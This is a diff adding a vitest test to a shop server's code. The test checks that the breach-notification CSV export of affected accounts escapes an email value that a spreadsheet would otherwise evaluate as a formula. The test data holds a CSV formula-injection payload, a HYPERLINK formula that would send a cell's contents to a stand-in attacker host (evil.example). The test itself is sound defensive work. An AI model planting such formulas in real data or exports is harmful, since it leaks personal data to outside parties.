@@ -2,6 +2,7 @@ import { mkdtempSync, rmSync } from 'node:fs'
 import { tmpdir } from 'node:os'
 import { join } from 'node:path'
 import { afterAll, expect, test } from 'vitest'
+import { email } from '../contract/text.ts'
 import { newSecret } from '../server/modules/staff/totp.ts'
 import { openDatabase } from '../server/platform/database.ts'
 import { startEmbeddedPostgres } from '../server/platform/embedded-postgres.ts'
@@ -45,6 +46,28 @@ test('the first owner comes from the command line, on an empty database or besid
     { email: 'second@example.com', role: 'owner' },
   ])
   expect(await passwordFits(owners[0]!.hash, 'a-loom-and-four-words')).toBe(true)
+}, 60_000)
+
+test('in the list of whom a breach concerns a mailbox that a spreadsheet would compute is text', async () => {
+  const mailbox = email.parse('=HYPERLINK("https://evil.example/?"&C2,"Bill")&"@mail.example"')
+  // An empty shop has its tables by this.
+  await run(['take-apps-off'])
+  const running = await startEmbeddedPostgres({ dataDir, durable: false })
+  const db = openDatabase(running.owner, 1)
+  await db`
+    insert into accounts (id, code, name, email, phone) values
+      (gen_random_uuid(), 'A', 'A Shopper', ${mailbox}, '9876543210'),
+      (gen_random_uuid(), 'B', 'A Shopper', 'b@example.com', null)`
+  await db.end()
+  const { said } = await run(['affected-accounts', '2099-01-01T00:00:00Z'])
+  await running.stop()
+  const lines = said.split('\r\n')
+  expect(lines[0]).toBe('account,email,phone,language,orders,address')
+  expect(lines.slice(1).toSorted()).toEqual([
+    '',
+    `A,"'${mailbox.replaceAll('"', '""')}",9876543210,,no,no`,
+    'B,b@example.com,,,no,no',
+  ])
 }, 60_000)
 
 test.each([
